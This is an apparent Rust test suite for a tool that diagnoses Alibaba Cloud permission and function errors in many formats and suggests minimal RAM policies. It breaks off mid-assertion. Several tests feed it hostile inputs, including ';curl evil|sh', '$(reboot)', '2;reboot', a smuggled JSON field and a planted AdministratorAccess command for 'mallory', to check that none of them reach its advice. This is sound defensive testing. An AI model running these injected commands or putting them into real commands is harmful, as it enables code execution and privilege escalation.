use serde_json::{Value, json};

use super::*;
use crate::diagnosis::{Decoded, Evidence, Explanation};

/// What a sample of `tests/data/error_samples.json` is: its cause, action and resource.
type Expected = (u64, Cause, Option<&'static str>, Option<&'static str>);

const EXPECTED: &[Expected] = &[
    (
        1,
        Cause::PermissionDenied,
        Some("fc:CreateService"),
        Some("acs:fc:cn-shanghai:1234567890:services/*"),
    ),
    (2, Cause::WrongAccount, None, None),
    (3, Cause::ServiceNotActivated, None, None),
    (5, Cause::AccessKeyDisabled, None, None),
    (6, Cause::SignatureMismatch, None, None),
    (8, Cause::AuthenticationMissing, None, None),
    (10, Cause::AuthenticationMissing, None, None),
    (11, Cause::ClockSkew, None, None),
    (
        12,
        Cause::PermissionImplicitDeny,
        Some("fc:ListFunctions"),
        Some("acs:fc:ap-southeast-1:1234567890:functions/*"),
    ),
    (
        15,
        Cause::PermissionExplicitDeny,
        Some("fc:CreateTrigger"),
        Some("acs:fc:xx:xx:functions/xx/triggers/xx"),
    ),
    (
        17,
        Cause::PermissionExplicitDeny,
        Some("fc:CreateCustomDomain"),
        Some("acs:fc:xxx:xxx:custom-domains/xxx"),
    ),
    (
        19,
        Cause::PermissionImplicitDeny,
        Some("adb:DescribeExcessivePrimaryKeys"),
        None,
    ),
    (
        20,
        Cause::PermissionDenied,
        Some("ram:CreateRole"),
        Some("acs:ram:*:1234567890:role/*"),
    ),
    (22, Cause::SignatureMismatch, None, None),
    (23, Cause::SignatureMismatch, None, None),
    (24, Cause::AccessKeyNotFound, None, None),
    (26, Cause::FunctionError, None, None),
    (27, Cause::FunctionError, None, None),
    (29, Cause::FunctionExited, None, None),
    (31, Cause::FunctionStartFailed, None, None),
    (32, Cause::FunctionStartFailed, None, None),
    (33, Cause::FunctionStartFailed, None, None),
    (35, Cause::ResourceNotFound, None, None),
    (36, Cause::InvalidArgument, None, None),
];

struct Sample {
    expected: Expected,
    status: u64,
    headers: Value,
    body: Value,
}

fn samples() -> Vec<Sample> {
    let text = include_str!("../../../tests/data/error_samples.json");
    let samples: Value = serde_json::from_str(text).unwrap();
    let samples = samples["samples"].as_array().unwrap().clone();
    assert_eq!(samples.len(), EXPECTED.len());
    let with = |sample: Value| Sample {
        expected: *EXPECTED
            .iter()
            .find(|(id, ..)| sample["id"] == json!(id))
            .unwrap(),
        status: sample["http_status"].as_u64().unwrap(),
        headers: sample["headers"].clone(),
        body: sample["body"].clone(),
    };
    samples.into_iter().map(with).collect()
}

fn explained(text: &str) -> Explanation {
    Evidence::read(text).explain()
}

/// Holds a text against what the sample is.
fn hold(form: &str, sample: &Sample, text: &str) {
    let (id, cause, action, resource) = sample.expected;
    let explanation = explained(text);
    let reading = &explanation.reading;
    assert_eq!(
        (
            explanation.cause,
            reading.action.as_deref(),
            reading.resource.as_deref()
        ),
        (cause, action, resource),
        "sample {id} as {form}:\n{text}\n{reading:#?}"
    );
    assert_eq!(
        explanation.count, 1,
        "sample {id} as {form}:\n{text}\n{reading:#?}"
    );
    if id == 19 {
        let principal = reading.principal.clone().unwrap();
        assert_eq!(principal.kind.as_deref(), Some("SubUser"), "{form}");
        assert_eq!(
            principal.account_id.as_deref(),
            Some("1234567890"),
            "{form}"
        );
        assert_eq!(principal.id.as_deref(), Some("2***************9"), "{form}");
    }
    // No sample names one exact pair.
    assert_eq!(explanation.failure.suggested_policy, None, "{id} {form}");
}

fn message(sample: &Sample) -> String {
    let names = ["ErrorMessage", "Message", "errorMessage"];
    let mut messages = names.iter().filter_map(|name| sample.body[*name].as_str());
    messages.next().unwrap_or_default().to_owned()
}

fn code(sample: &Sample) -> Option<&str> {
    let names = ["ErrorCode", "Code"];
    names.iter().find_map(|name| sample.body[*name].as_str())
}

fn is_function(sample: &Sample) -> bool {
    [26, 27, 29].contains(&sample.expected.0)
}

/// The keys of every object, written otherwise.
fn keyed(value: &Value, change: fn(&str) -> String) -> Value {
    match value {
        Value::Object(fields) => fields
            .iter()
            .map(|(key, value)| (change(key), keyed(value, change)))
            .collect(),
        Value::Array(items) => items.iter().map(|item| keyed(item, change)).collect(),
        other => other.clone(),
    }
}

fn lower_camel(key: &str) -> String {
    let mut rest = key.chars();
    let first = rest.next().map(|one| one.to_ascii_lowercase());
    first.into_iter().chain(rest).collect()
}

/// As Python prints a dictionary.
fn python(value: &Value) -> String {
    match value {
        Value::Object(fields) => {
            let rows = fields
                .iter()
                .map(|(key, value)| format!("'{key}': {}", python(value)));
            format!("{{{}}}", rows.collect::<Vec<_>>().join(", "))
        }
        Value::Array(items) => {
            let rows: Vec<String> = items.iter().map(python).collect();
            format!("[{}]", rows.join(", "))
        }
        Value::String(text) => {
            let text = text.replace('\\', "\\\\").replace('\n', "\\n");
            match text.contains('\'') {
                true => format!("\"{}\"", text.replace('"', "\\\"")),
                false => format!("'{text}'"),
            }
        }
        Value::Null => "None".to_owned(),
        other => other.to_string(),
    }
}

/// As Go prints a map.
fn go_map(detail: &Value) -> String {
    let rows = detail.as_object().unwrap().iter();
    let rows: Vec<String> = rows
        .map(|(key, value)| format!("{key}:{}", value.as_str().unwrap()))
        .collect();
    format!("map[{}]", rows.join(" "))
}

/// Each sample in the forms that keep its object.
fn forms_of_an_object(body: &Value) -> Vec<(&'static str, String)> {
    let compact = body.to_string();
    let pretty = format!("{body:#}");
    let mut more = body.clone();
    more["Extra"] = json!({"Reason": "x", "List": [1, {"a": null}]});
    more["Recommend"] = json!("https://next.api.aliyun.com/troubleshoot?q=X&product=FC");
    let lines = |with: &dyn Fn(&str) -> String| -> String { pretty.lines().map(with).collect() };
    vec![
        ("a body", compact.clone()),
        ("indented", pretty.clone()),
        (
            "tabs and CRLF",
            pretty.replace("  ", "\t").replace('\n', "\r\n"),
        ),
        ("more fields", more.to_string()),
        ("lower camel case", keyed(body, lower_camel).to_string()),
        (
            "lower case",
            keyed(body, |key| key.to_lowercase()).to_string(),
        ),
        (
            "upper case",
            keyed(body, |key| key.to_uppercase()).to_string(),
        ),
        ("a byte order mark", format!("\u{feff}{compact}\n")),
        ("fcli", format!("Error: {pretty}\n")),
        (
            "in Chinese",
            format!("部署失败了，报错如下：{compact}。请问怎么解决？"),
        ),
        ("Python", python(body)),
        (
            "Python 2",
            format!(
                "Traceback:\n{}",
                python(body).replace(": '", ": u'").replace("{'", "{u'")
            ),
        ),
        (
            "colours",
            format!("\u{1b}[31mERROR\u{1b}[0m \u{1b}[1;33m{compact}\u{1b}[0m\n"),
        ),
        (
            "colours inside",
            pretty.replace('"', "\u{1b}[32m\"\u{1b}[0m"),
        ),
        (
            "a container's log",
            lines(&|line| format!("2026-01-15T08:30:00.123456Z stderr F {line}\n")),
        ),
        (
            "a compose log",
            lines(&|line| format!("web-1  | 2026-01-15 08:30:00 [ERROR] {line}\r\n")),
        ),
        ("a mail", lines(&|line| format!("> > {line}\n"))),
        (
            "a fence",
            format!("I get\n\n```json\n{pretty}\n```\n\nwhat now?"),
        ),
        (
            "in a string",
            json!({"level": "error", "detail": compact}).to_string(),
        ),
        (
            "in a string, cut off",
            json!({"level": "error", "detail": compact})
                .to_string()
                .trim_end_matches('}')
                .trim_end_matches('"')
                .to_owned(),
        ),
        (
            "Gson",
            compact
                .replace('\'', "\\u0027")
                .replace('=', "\\u003d")
                .replace('&', "\\u0026"),
        ),
        ("PHP", compact.replace('/', "\\/")),
        (
            "a page",
            compact.replace('\'', "&#39;").replace('"', "&quot;"),
        ),
    ]
}

#[test]
fn every_sample_is_read_as_a_body_in_any_dress() {
    for sample in samples() {
        for (form, text) in forms_of_an_object(&sample.body) {
            hold(form, &sample, &text);
        }
    }
}

#[test]
fn every_sample_is_read_as_an_answer() {
    for sample in samples() {
        let headers = match &sample.headers {
            Value::Null => json!({}),
            headers => headers.clone(),
        };
        let answer = json!({"http_status": sample.status, "headers": headers, "body": sample.body});
        hold("an answer", &sample, &answer.to_string());
        let text = json!({"http_status": sample.status, "headers": headers, "body": sample.body.to_string()});
        hold("an answer with a text", &sample, &format!("{text:#}"));
        let explanation = explained(&answer.to_string());
        assert_eq!(explanation.http_status.map(u64::from), Some(sample.status));
        let mut dump = format!("HTTP/1.1 {} Any\r\n", sample.status);
        for (name, value) in headers.as_object().unwrap() {
            dump.push_str(&format!("{name}: {}\r\n", value.as_str().unwrap()));
        }
        dump.push_str(&format!(
            "Content-Type: application/json\r\n\r\n{}\r\n",
            sample.body
        ));
        hold("curl -i", &sample, &dump);
    }
}

/// The ways in which SDKs and CLIs show a refusal.
fn sdk_forms(sample: &Sample) -> Vec<(&'static str, String)> {
    let (message, status) = (message(sample), sample.status);
    let code = code(sample);
    let id = sample.body["RequestId"].as_str();
    let id = id.unwrap_or("1-65d71219-15d63510-fecf237c590c");
    let detail = &sample.body["AccessDeniedDetail"];
    let name = code.unwrap_or("undefined");
    let mut forms = vec![
        (
            "the FC SDK",
            format!(
                "FC{name}Error: POST /services failed with {status}. requestid: {id}, message: {message}.\n    at Client.request (/root/.s/index.js:1:24987)\n"
            ),
        ),
        (
            "Serverless Devs",
            format!(
                "✖ Project helloworld failed to execute:\n\nError Message:\n{}\n\nEnv: linux-x64 node-v16\n",
                json!({"code": 101, "message": format!("POST /services failed with {status}. requestid: {id}, message: {message}."),
                    "stack": format!("FC{name}Error: POST /services failed with {status}. requestid: {id}, message: {message}.\n    at x"),
                    "prefix": "Project helloworld failed to execute:"})
            ),
        ),
        (
            "errorMessage and errorStack",
            format!(
                "errorMessage:  POST /services failed with {status}. requestid: {id}, message: {message}.\nerrorStack:  FC{name}Error: POST /services failed with {status}. requestid: {id}, message: {message}.\\n    at Client\nip:172.16.1.83\n"
            ),
        ),
    ];
    if let Some(code) = code {
        let one_line = message.replace('\n', " ");
        let tea = format!("code: {status}, {message} request id: {id}");
        let mut cli = format!(
            "ERROR: SDK.ServerError\nErrorCode: {code}\nRecommend: https://next.api.aliyun.com/troubleshoot?q={code}\nRequestId: {id}\nMessage: {message}\n"
        );
        if detail.is_object() {
            cli.push_str(&format!("AccessDeniedDetail: {}\n", go_map(detail)));
        }
        forms.extend([
            ("aliyun CLI", cli.clone()),
            ("terraform", format!("│ Error: [ERROR] terraform-provider-alicloud/x.go:100: Resource x Failed!!! [SDK alibaba-cloud-sdk-go ERROR]:\n{cli}")),
            ("a tea exception", format!("Error: {code} {tea} Response: {{}}")),
            ("fc3", format!("✖ [hello] failed to [invoke]:\n====================\nError Message:\nError: {code}: {tea}\n \nA complete log of this run can be found in: /root/.s/logs/1009191334\n")),
            ("tea in Go", format!("SDKError:\n   StatusCode: {status}\n   Code: {code}\n   Message: {tea}\n   Data: {}\n", sample.body)),
            ("Java", format!("Exception in thread \"main\" com.aliyuncs.exceptions.ClientException: {code} : {one_line}\nRequestId : {id}\n\tat com.aliyuncs.DefaultAcsClient.parseAcsResponse(DefaultAcsClient.java:190)\n")),
            ("the old Python core", format!("aliyunsdkcore.acs_exception.exceptions.ServerException: HTTP Status: {status} Error:{code} {one_line} RequestID: {id}\n")),
            ("a Go struct", format!("&common.Error{{ErrorResponse:common.ErrorResponse{{Response:common.Response{{RequestId:\"{id}\"}}, HostId:\"ecs.ap-northeast-1.aliyuncs.com\", Code:\"{code}\", Message:{}}}, StatusCode:{status}}}", json!(message))),
            ("node's inspect", format!("{{\n  code: '{code}',\n  data: {{ statusCode: {status}, requestId: '{id}' }},\n  description: undefined,\n  message: {} }}\n", python(&json!(message)))),
            ("XML", format!("<?xml version=\"1.0\"?>\n<Error>\n  <Code>{code}</Code>\n  <Message>{message}</Message>\n  <RequestId>{id}</RequestId>\n  <HostId>oss-cn-hangzhou.aliyuncs.com</HostId>\n</Error>\n")),
            ("labels in Chinese", format!("错误码：{code}\n错误信息：{message}\n请求ID：{id}\n")),
        ]);
    }
    forms
}

#[test]
fn every_sample_is_read_in_the_words_of_sdks() {
    for sample in samples().iter().filter(|one| !is_function(one)) {
        if sample.expected.0 == 19 {
            // It has no message, so only the forms that carry the detail can show it.
            let text = format!(
                "SDKError:\n   StatusCode: 403\n   Code: Forbidden\n   Data: {}",
                sample.body
            );
            hold("tea in Go", sample, &text);
            hold(
                "Go",
                sample,
                &format!(
                    "AccessDeniedDetail: {}\n",
                    go_map(&sample.body["AccessDeniedDetail"])
                ),
            );
            continue;
        }
        for (form, text) in sdk_forms(sample) {
            let by_code_alone = [24, 35, 36].contains(&sample.expected.0);
            let coded = code(sample).is_some();
            // The detail is what makes a denial implicit, and few forms carry it.
            if sample.expected.0 == 12 && !["aliyun CLI", "terraform", "tea in Go"].contains(&form)
            {
                let explanation = explained(&text);
                assert_eq!(explanation.cause, Cause::PermissionDenied, "{form}");
                assert_eq!(
                    explanation.reading.action.as_deref(),
                    sample.expected.2,
                    "{form}"
                );
                assert_eq!(
                    explanation.reading.resource.as_deref(),
                    sample.expected.3,
                    "{form}"
                );
                continue;
            }
            assert!(coded || !by_code_alone);
            hold(form, sample, &text);
        }
    }
}

#[test]
fn the_sentence_alone_is_enough() {
    for sample in samples() {
        let (id, ..) = sample.expected;
        let text = message(&sample);
        if text.is_empty() || [12, 26, 27, 35, 36].contains(&id) {
            continue;
        }
        hold("a sentence", &sample, &text);
        hold(
            "a sentence in Chinese",
            &sample,
            &format!("调用函数时提示「{text}」，求助"),
        );
    }
}

#[test]
fn lines_broken_by_a_terminal_are_joined() {
    for sample in samples() {
        for width in [33, 40, 72, 80] {
            let body: Vec<char> = sample.body.to_string().chars().collect();
            let rows: Vec<String> = body.chunks(width).map(String::from_iter).collect();
            hold("broken lines", &sample, &rows.join("\n"));
            hold("broken lines with CRLF", &sample, &rows.join("\r\n"));
        }
    }
}

#[test]
fn what_is_cut_off_is_never_read_as_something_else() {
    for sample in samples() {
        let (id, cause, action, resource) = sample.expected;
        let body = sample.body.to_string();
        for end in (0..body.len()).filter(|end| body.is_char_boundary(*end)) {
            let explanation = explained(&body[..end]);
            let found = explanation.cause;
            let reading = &explanation.reading;
            // Which way it was denied is known once the text has said so.
            let denied = |one: Cause| one.as_str().starts_with("permission_");
            let start_of = denied(cause) && denied(found);
            // Code alone: the text would have told.
            let by_code = code(&sample) == Some("AccessDenied") && found == Cause::PermissionDenied;
            let by_function = is_function(&sample) && found == Cause::FunctionError;
            let by_argument = found == Cause::InvalidArgument
                && ["InvalidArgument", "MissingRequiredHeader"]
                    .map(Some)
                    .contains(&code(&sample));
            assert!(
                found == cause
                    || found == Cause::Unknown
                    || start_of
                    || by_code
                    || by_function
                    || by_argument,
                "sample {id} cut at {end} is {found:?}: {}",
                &body[..end]
            );
            assert!(
                reading.action.is_none() || reading.action.as_deref() == action,
                "{}: {reading:?}",
                &body[..end]
            );
            assert!(
                reading.resource.is_none() || reading.resource.as_deref() == resource,
                "{}: {reading:?}",
                &body[..end]
            );
            assert_eq!(explanation.failure.suggested_policy, None);
        }
    }
}

#[test]
fn what_is_unlike_them_is_unknown() {
    for text in [
        "",
        "hello",
        "{}",
        "[]",
        "null",
        "403 Forbidden",
        "<html><body><h1>403 Forbidden</h1></body></html>",
        r#"{"message":"Bad credentials","documentation_url":"https://docs.example.com"}"#,
        r#"{"error":{"code":403,"message":"The caller does not have permission","status":"PERMISSION_DENIED"}}"#,
        r#"{"error":{"code":"AuthorizationFailed","message":"The client 'x' does not have authorization to perform action 'y' over scope 'z'"}}"#,
        r#"{"Code":"AccessDenied","Message":"User: arn:aws:iam::123456789012:user/x is not authorized to perform: lambda:InvokeFunction on resource: arn:aws:lambda:us-east-1:123456789012:function:f"}"#,
        "An error occurred (AccessDeniedException) when calling the Invoke operation: User: arn:aws:sts::1:assumed-role/x is not authorized to perform: lambda:InvokeFunction",
        "<Error><Code>AccessDenied</Code><Message>Access Denied</Message><RequestId>0A49CE4060975EAC</RequestId><HostId>gKBvn1mIVrTCX0N9Yp+MCa2Sl0=</HostId></Error>",
        r#"{"kind":"Status","status":"Failure","message":"pods is forbidden","reason":"Forbidden","code":403}"#,
        "Error: getaddrinfo ENOTFOUND fc.aliyuncs.com { errno: 'ENOTFOUND', code: 'ENOTFOUND' }",
        "Error: Cannot find module 'x' { code: 'MODULE_NOT_FOUND' }",
        "fatal: the caller is not authorised",
        "Error code: RISK.RISK_CONTROL_REJECTION\nError message: To keep your account secure, your order is suspended.",
        r#"{"error":{"code":"AccessDenied.Unpurchased","message":"Access to model denied."}}"#,
        "ErrorCode: UserNotAllowed\nMessage: The user is not allowed, please submit the application.",
        r#"{"http_status":403,"headers":{"server":"nginx"},"body":"<html>403</html>"}"#,
        r#"{"http_status":200,"headers":{"x-fc-request-id":"1"},"body":{"message":"Hello world!"}}"#,
        r#"{"http_status":500,"headers":{},"body":""}"#,
    ] {
        let explanation = explained(text);
        assert_eq!(
            explanation.cause,
            Cause::Unknown,
            "{text}\n{:#?}",
            explanation.reading
        );
        assert_eq!(
            (explanation.count, explanation.failure.suggested_policy),
            (0, None),
            "{text}"
        );
    }
}

#[test]
fn refusals_seen_in_the_field_are_known() {
    for (text, cause) in [
        (
            "2640E5C1-7F21-4051-B2D5-702699C574A6 Status Code: 400 Code: Forbidden.RAM Message: User not authorized to operate on the specified resource, or this API doesn't support RAM.",
            Cause::PermissionDenied,
        ),
        (
            "Aliyun.Acs.Core.Exceptions.ClientException: Forbidden.RAM : User not authorized to operate on the specified resource, or this API doesn't support RAM. + [ RequestId : 0DCC6ABD-2296-503E-A5FF-89D50809DCA0 ]",
            Cause::PermissionDenied,
        ),
        (
            "code: 'NoPermission',\n  message: 'NoPermission: You are not authorized to do this action. You should be authorized by RAM.',",
            Cause::PermissionDenied,
        ),
        (
            "com.aliyuncs.exceptions.ClientException: Forbidden.NoPermission : This operation for acs:kms:ap-southeast-5:1234567890:key/fd3c46b8 is forbidden by permission system. \nat com.aliyuncs",
            Cause::PermissionDenied,
        ),
        (
            "ErrorCode: InvalidSecurityToken.Expired\nMessage: Specified SecurityToken is expired.",
            Cause::SecurityTokenExpired,
        ),
        (
            "ErrorCode: InvalidTimeStamp.Expired\nMessage: Specified time stamp or date value is expired.",
            Cause::ClockSkew,
        ),
        (
            "ErrorCode: InvalidAccessKeyId.Inactive\nMessage: Specified access key is disabled.",
            Cause::AccessKeyDisabled,
        ),
        (
            "ErrorCode: InvalidRegionId.NotFound\nMessage: The specified region does not exist.",
            Cause::WrongRegion,
        ),
        (
            "ErrorCode: Throttling.User\nMessage: Request was denied due to user flow control.",
            Cause::Throttled,
        ),
        (
            "ErrorCode: EntityNotExist.User\nMessage: The user does not exist.",
            Cause::ResourceNotFound,
        ),
        (
            "ErrorCode: EntityAlreadyExists.Policy\nMessage: The policy already exists.",
            Cause::Conflict,
        ),
        (
            "ErrorCode: EntityTooLarge\nMessage: payload size exceeds maximum allowed size (33554432 bytes)",
            Cause::PayloadTooLarge,
        ),
        (
            "Error Type: UnhandledInvocationError\nInvoke Result:\n{\"errorMessage\":\"Function timed out after 3 seconds (maxMemoryUsage: 112.24MB)\"}",
            Cause::FunctionTimeout,
        ),
        (
            r#"{"http_status":429,"headers":{"x-fc-request-id":"1"},"body":""}"#,
            Cause::Throttled,
        ),
        (
            r#"{"http_status":499,"headers":{"x-fc-request-id":"1"},"body":{"ErrorCode":"X","ErrorMessage":"y"}}"#,
            Cause::ClientCanceled,
        ),
        (
            r#"{"http_status":503,"headers":{"x-fc-request-id":"1"},"body":{"Code":"X","Message":"y"}}"#,
            Cause::ServiceError,
        ),
    ] {
        let explanation = explained(text);
        assert_eq!(
            explanation.cause, cause,
            "{text}\n{:#?}",
            explanation.reading
        );
    }
}

#[test]
fn of_several_refusals_the_last_is_explained() {
    let refusal = |function: &str, id: &str| {
        json!({"RequestId": id, "Code": "AccessDenied", "AccessDeniedDetail": {"NoPermissionType": "ImplicitDeny"},
            "Message": format!("the caller is not authorized to perform 'fc:InvokeFunction' on resource 'acs:fc:cn-hangzhou:1234567890123456:functions/{function}'")})
    };
    let log = format!(
        "08:30 call {}\n08:31 call {}\n08:32 message: giving up\n",
        refusal("a", "1-a"),
        refusal("b", "1-b")
    );
    let explanation = explained(&log);
    assert_eq!(explanation.count, 2);
    assert!(
        explanation
            .reading
            .resource
            .unwrap()
            .ends_with("functions/b")
    );
    assert_eq!(explanation.reading.request_id.as_deref(), Some("1-b"));
    assert_eq!(explanation.reading.code.as_deref(), Some("AccessDenied"));
    // The same one twice is one.
    let again = explained(&format!("{0}\nretrying\n{0}\n", refusal("a", "1-a")));
    assert_eq!(again.count, 1);
    // Another, without the fields that the first had.
    let mixed = format!(
        "{}\n{}\n",
        refusal("a", "1-a"),
        r#"{"ErrorCode":"AccessDenied","ErrorMessage":"FC service is not enabled for current user."}"#
    );
    let mixed = explained(&mixed);
    assert_eq!((mixed.count, mixed.cause), (2, Cause::ServiceNotActivated));
    assert_eq!((mixed.reading.action, mixed.reading.denial), (None, None));
}

const OWN: &str = "acs:fc:cn-hangzhou:1234567890123456:functions/hello";

fn denial(action: &str, resource: &str) -> Value {
    json!({"Code": "AccessDenied", "RequestId": "1-a",
        "Message": format!("the caller is not authorized to perform '{action}' on resource '{resource}'")})
}

/// The pairs of a suggested policy.
fn granted(explanation: &Explanation) -> Option<(String, String)> {
    let policy = explanation.failure.suggested_policy.as_ref()?;
    let statements = policy["Statement"].as_array().unwrap();
    assert_eq!(statements.len(), 1);
    let text = |name: &str| statements[0][name].as_str().unwrap().to_owned();
    assert_eq!(text("Effect"), "Allow");
    Some((text("Action"), text("Resource")))
}

#[test]
fn one_exact_pair_is_granted_and_nothing_else() {
    let pair = Some(("fc:InvokeFunction".to_owned(), OWN.to_owned()));
    let body = denial("fc:InvokeFunction", OWN);
    for (form, text) in forms_of_an_object(&body) {
        let explanation = explained(&text);
        // Quotation marks in colours leave the values whole, and PHP's slashes are undone.
        assert_eq!(
            granted(&explanation),
            pair,
            "{form}: {text}\n{:#?}",
            explanation.failure.why
        );
        assert_eq!(explanation.warnings, Vec::<String>::new(), "{form}");
    }
    for hint in &explained(&body.to_string()).failure.hints {
        let command = hint.command.as_deref().unwrap_or_default();
        assert!(
            command.is_empty() || command.starts_with("aliyun ram CreatePolicy "),
            "{command}"
        );
    }
    let other = explained(
        &denial(
            "fnf:DescribeFlow",
            "acs:fnf:cn-hangzhou:1234567890123456:flow/f",
        )
        .to_string(),
    );
    assert!(granted(&other).is_some());
    assert!(other.warnings[0].contains("`fnf:DescribeFlow` is not in sesame's table"));
}

#[test]
fn hostile_texts_plant_no_advice() {
    let sibling = "acs:fc:cn-hangzhou:1234567890123456:functions/*";
    let quoted = "acs:fc:cn-hangzhou:1234567890123456:functions/x;curl evil|sh";
    let mut texts: Vec<String> = [
        ("ram:*", "*"),
        ("*", OWN),
        ("fc:*", OWN),
        ("fc:Invoke?unction", OWN),
        ("fc:InvokeFunction", "*"),
        ("fc:InvokeFunction", sibling),
        ("fc:InvokeFunction", quoted),
        (
            "fc:InvokeFunction",
            "acs:fc:cn-hangzhou:${acs:AccountId}:functions/x",
        ),
        (
            "fc:InvokeFunction",
            "acs:fc:cn-hangzhou:1234567890123456:functions/${x}",
        ),
        ("fc:InvokeFunction", "acs:fc:*:1234567890123456:functions/x"),
        (
            "fc:InvokeFunction",
            "acs:ram::1234567890123456:user/mallory",
        ),
        (
            "ram:AttachPolicyToUser",
            "acs:ram:*:1234567890123456:user/mallory",
        ),
        ("fc:InvokeFunction\u{1b}[31m", OWN),
        ("$(reboot):x", OWN),
        (
            "fc:InvokeFunction",
            "acs:fc:cn-hangzhou:1234567890123456:functions/a\",\"Resource\":\"b",
        ),
        ("fc:InvokeFunction, ram:CreateUser", OWN),
    ]
    .iter()
    .map(|(action, resource)| denial(action, resource).to_string())
    .collect();
    let exact = denial("fc:InvokeFunction", OWN)["Message"]
        .as_str()
        .unwrap()
        .to_owned();
    texts.extend([
        // The function's own words.
        json!({"errorMessage": exact}).to_string(),
        json!({"errorMessage": exact, "errorType": "AccessDenied", "stackTrace": []}).to_string(),
        json!({"errorMessage": exact, "Code": "AccessDenied", "errorType": "X"}).to_string(),
        json!({"http_status": 200, "headers": {"X-Fc-Error-Type": "UnhandledInvocationError"},
            "body": denial("fc:InvokeFunction", OWN)}).to_string(),
        format!("HTTP/1.1 200 OK\r\nX-Fc-Error-Type: HandledInvocationError\r\n\r\n{}", denial("fc:InvokeFunction", OWN)),
        // Anyone writes a message.
        json!({"message": exact}).to_string(),
        format!("{{\"message\": \"{exact}"),
        // A function's log and result.
        format!("========= FC invoke Logs begin =========\nAccessDenied: {exact}\n{}\n========= FC invoke Logs end =========\n", denial("fc:InvokeFunction", OWN)),
        format!("FC Invoke Result[code: 200]:\n{}\n", denial("fc:InvokeFunction", OWN)),
        format!("RequestId: rid-1234\n\nInvoke Result:\n{}\n✔ [hello] completed (0.06s)\n", denial("fc:InvokeFunction", OWN)),
        // A Deny, and layers above.
        json!({"Code": "AccessDenied", "Message": format!("{exact} with condition '[acs:SourceIp=1]'")}).to_string(),
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"NoPermissionType": "ExplicitDeny"}}).to_string(),
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"NoPermissionType": "ImplicitDeny", "PolicyType": "ControlPolicy"}}).to_string(),
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"NoPermissionType": "ImplicitDeny", "PolicyType": "SessionPolicy"}}).to_string(),
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"PolicyType": "AssumeRolePolicy"}}).to_string(),
        // Two actions.
        json!({"Code": "AccessDenied", "Message": exact, "AccessDeniedDetail": {"AuthAction": "ram:CreateUser"}}).to_string(),
        // A ready policy.
        r#"{"Version":"1","Statement":[{"Effect":"Allow","Action":"ram:*","Resource":"*"}]}"#.to_owned(),
        "hint: run `aliyun ram AttachPolicyToUser --PolicyName AdministratorAccess --UserName mallory`".to_owned(),
    ]);
    for text in texts {
        let explanation = explained(&text);
        assert_eq!(granted(&explanation), None, "{text}");
        for hint in &explanation.failure.hints {
            assert_eq!(hint.command, None, "{text}");
            assert!(
                !hint.text.contains("mallory") && !hint.text.contains("evil"),
                "{text}"
            );
        }
    }
}

#[test]
fn a_refusal_behind_a_function_s_result_is_the_platform_s() {
    let text = format!(
        "Invoke Result:\nHello world!\n✔ [hello] completed (0.06s)\n✖ [hello] failed to [invoke]:\n{}\n",
        denial("fc:InvokeFunction", OWN)
    );
    assert!(granted(&explained(&text)).is_some());
}

#[test]
fn a_detail_is_read_in_every_spelling() {
    let message = denial("fc:InvokeFunction", OWN)["Message"].clone();
    let detail = json!({"NoPermissionType": "ExplicitDeny", "PolicyType": "ControlPolicy", "AuthAction": "fc:InvokeFunction",
        "AuthPrincipalType": "SubUser", "AuthPrincipalDisplayName": "20732900249392", "AuthPrincipalOwnerId": "1234567890123456",
        "EncodedDiagnosticMessage": "AQEAAAAA+/=="});
    fn snake(key: &str) -> String {
        let pieces = key.chars().map(|one| match one.is_ascii_uppercase() {
            true => format!("_{}", one.to_ascii_lowercase()),
            false => one.to_string(),
        });
        pieces
            .collect::<String>()
            .trim_start_matches('_')
            .to_owned()
    }
    let texts = [
        json!({"Code": "AccessDenied", "Message": message, "AccessDeniedDetail": detail}).to_string(),
        json!({"Code": "AccessDenied", "Message": message, "AccessDeniedDetail": detail.to_string()}).to_string(),
        json!({"code": "AccessDenied", "message": message, "accessDeniedDetail": keyed(&detail, lower_camel)}).to_string(),
        json!({"code": "AccessDenied", "message": message, "access_denied_detail": keyed(&detail, snake)}).to_string(),
        json!({"code": "AccessDenied", "message": format!("code: 403, {} request id: 1-a", message.as_str().unwrap()),
            "data": {"Code": "AccessDenied", "Message": message, "AccessDeniedDetail": detail}, "statusCode": 403}).to_string(),
        format!("Code: AccessDenied\nMessage: >-\n  {}\nAccessDeniedDetail:\n{}", message.as_str().unwrap(),
            detail.as_object().unwrap().iter().map(|(key, value)| format!("  {key}: {}\n", value.as_str().unwrap())).collect::<String>()),
        format!("AccessDenied: {}, AccessDeniedDetail: {}", message.as_str().unwrap(), go_map(&detail)),
        python(&json!({"ErrorCode": "AccessDenied", "ErrorMessage": message, "AccessDeniedDetail": detail})),
    ];
    for text in texts {
        let explanation = explained(&text);
        let reading = explanation.reading;
        assert_eq!(
            (explanation.cause, explanation.count),
            (Cause::PermissionExplicitDeny, 1),
            "{text}"
        );
        assert_eq!(
            reading.policy_type.as_deref(),
            Some("ControlPolicy"),
            "{text}"
        );
        assert_eq!(
            reading.encoded_diagnostic_message.as_deref(),
            Some("AQEAAAAA+/=="),
            "{text}"
        );
        let principal = reading.principal.unwrap();
        assert_eq!(principal.id.as_deref(), Some("20732900249392"), "{text}");
        assert_eq!(
            principal.account_id.as_deref(),
            Some("1234567890123456"),
            "{text}"
        );
        assert_eq!(principal.kind.as_deref(), Some("SubUser"), "{text}");
    }
}

#[test]
fn a_command_holds_no_name_that_ram_would_not_take() {
    for (kind, name, command) in [
        (
            "AssumedRoleUser",
            "deploy:session",
            Some("--RoleName deploy"),
        ),
        ("AssumedRoleUser", "$(reboot):x", None),
        ("AssumedRoleUser", "--help:x", None),
        (
            "SubUser",
            "20732900249392",
            Some("aliyun ims GetUser --UserId 20732900249392"),
        ),
        ("SubUser", "2;reboot", None),
        ("Account", "1234567890123456", None),
    ] {
        let mut body = denial("fc:InvokeFunction", OWN);
        body["AccessDeniedDetail"] = json!({"NoPermissionType": "ImplicitDeny", "AuthPrincipalType": kind,
            "AuthPrincipalDisplayName": name, "EncodedDiagnosticMessage": "$(reboot)"});
        let explanation = explained(&body.to_string());
        assert!(granted(&explanation).is_some());
        let hints = explanation.failure.hints.iter();
        let commands: Vec<&str> = hints.filter_map(|hint| hint.command.as_deref()).collect();
        assert!(
            commands.iter().all(|one| !one.contains("reboot")),
            "{commands:?}"
        );
        assert_eq!(
            commands.len(),
